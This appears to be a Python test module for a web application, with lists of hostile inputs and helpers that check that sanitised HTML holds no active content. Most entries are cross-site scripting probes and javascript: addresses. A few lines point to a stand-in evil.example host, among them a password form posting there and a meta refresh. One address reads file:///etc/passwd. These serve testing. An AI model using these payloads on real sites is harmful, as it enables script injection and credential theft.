"""What hostile authors try, and the check that nothing of it is active in a page."""

import re
from urllib.parse import urlsplit

import nh3
from bs4 import BeautifulSoup

HOSTILE_TEXTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</code></pre></p></div><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "javascript:alert(1)",
    "{{7*7}}{% debug %}%(x)s{x}",
    "\u202egnp.exe\u2066\u2069 and 🦉🎻",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\u2028\u2029<a href=javascript:alert(1)>x</a>",
]
HOSTILE_ADDRESSES = [
    "javascript:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "\x00javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:https://educa.example/x",
    'https://example.com/" onclick="alert(1)',
    "file:///etc/passwd",
]
HOSTILE_RICH_TEXTS = [
    *(f"<p>{text}</p>" for text in HOSTILE_TEXTS),
    *(f'<p><a href="{address}">x</a></p>' for address in HOSTILE_ADDRESSES if '"' not in address),
    '<p><a href="&#106;avascript:alert(1)">x</a></p>',
    '<p><a href="jav&#x09;ascript:alert(1)">x</a></p>',
    '<p><a href="javascript&colon;alert(1)">x</a></p>',
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))" class="band">x</p>',
    '<p id="main" name="getElementById">x</p>',
    "<style>@import url(https://evil.example/x.css)</style><p>x</p>",
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf"/>',
    '<embed embedtype="media" url="https://evil.example/"/>',
    '<embed embedtype="image" id="1" alt="x" format="left&quot; onload=&quot;alert(1)"/>',
    '<embed embedtype="image" id="x" format="left"/>',
    '<a linktype="page" id="abc">x</a>',
    '<a linktype="document" id="99999999999999999999999999">x</a>',
    '<a linktype="page" id="1&quot; onclick=&quot;alert(1)">x</a>',
    '<a linktype="nonsense" href="javascript:alert(1)">x</a>',
    "<p><b><i><s>never closed",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
]

TEXT_TAGS = "a b blockquote br cite code em i li ol p s samp span strong sub sup ul".split()
PAGE_TAGS = """
audio button caption details div figcaption figure h2 h3 h4 hr iframe img label option picture pre
section select source summary svg table tbody td th thead tr track use video
""".split()
MATHS_TAGS = """
math mfenced menclose mfrac mi mlabeledtr mmultiscripts mn mo mover mpadded mphantom mprescripts
mroot mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover none
""".split()
EXPECTED_TAGS = {*TEXT_TAGS, *PAGE_TAGS, *MATHS_TAGS}
ADDRESS_ATTRIBUTES = {"href", "src", "poster", "cite", "action", "formaction", "data", "xlink:href"}
SCHEMES = {"", "http", "https", "mailto", "tel"}
PLAYERS = re.compile(
    r"https://(www\.youtube-nocookie\.com/embed|player\.vimeo\.com/video)/[\w?=-]+"
)


def assert_inert(html: str) -> BeautifulSoup:
    """Fail unless markup holds expected elements only, without handlers, styles or bad links."""
    soup = BeautifulSoup(html, "html.parser")
    for element in soup.find_all(True):
        assert element.name in EXPECTED_TAGS, f"<{element.name}> in {html}"
        for name, value in element.attrs.items():
            assert_inert_attribute(element.name, name.lower(), value, html)
    assert_browsers_agree(html, soup)
    return soup


def assert_inert_attribute(tag: str, name: str, value, html: str) -> None:
    assert not name.startswith("on"), f"{name} in {html}"
    assert name not in {"style", "srcdoc", "http-equiv"}, f"{name} in {html}"
    if name in ADDRESS_ATTRIBUTES:
        address = "".join(character for character in value if character > " ")
        assert urlsplit(address).scheme.lower() in SCHEMES, f"{name}={value!r} in {html}"
    if tag == "iframe" and name == "src":
        assert PLAYERS.fullmatch(value), value


def assert_browsers_agree(html: str, soup: BeautifulSoup) -> None:
    """Parse again as browsers do (nh3 is built on html5ever): the same words and elements.

    Markup that a lenient parser takes for text and a browser for an element shows up here.
    """
    attributes = {name for element in soup.find_all(True) for name in element.attrs}
    seen = nh3.clean(
        html,
        tags=EXPECTED_TAGS,
        attributes={"*": attributes},
        url_schemes=SCHEMES - {""},
        link_rel=None,
        strip_comments=False,
    )
    again = BeautifulSoup(seen, "html.parser")
    assert shape(again) == shape(soup), f"{seen}\n\nfrom\n\n{html}"
    assert words(again) == words(soup), f"{seen}\n\nfrom\n\n{html}"


def shape(soup: BeautifulSoup) -> list[tuple[str, list[str]]]:
    return [
        (element.name, sorted(name.lower() for name in element.attrs))
        for element in soup.find_all(True)
    ]


def words(soup: BeautifulSoup) -> str:
    return " ".join(soup.get_text().split())
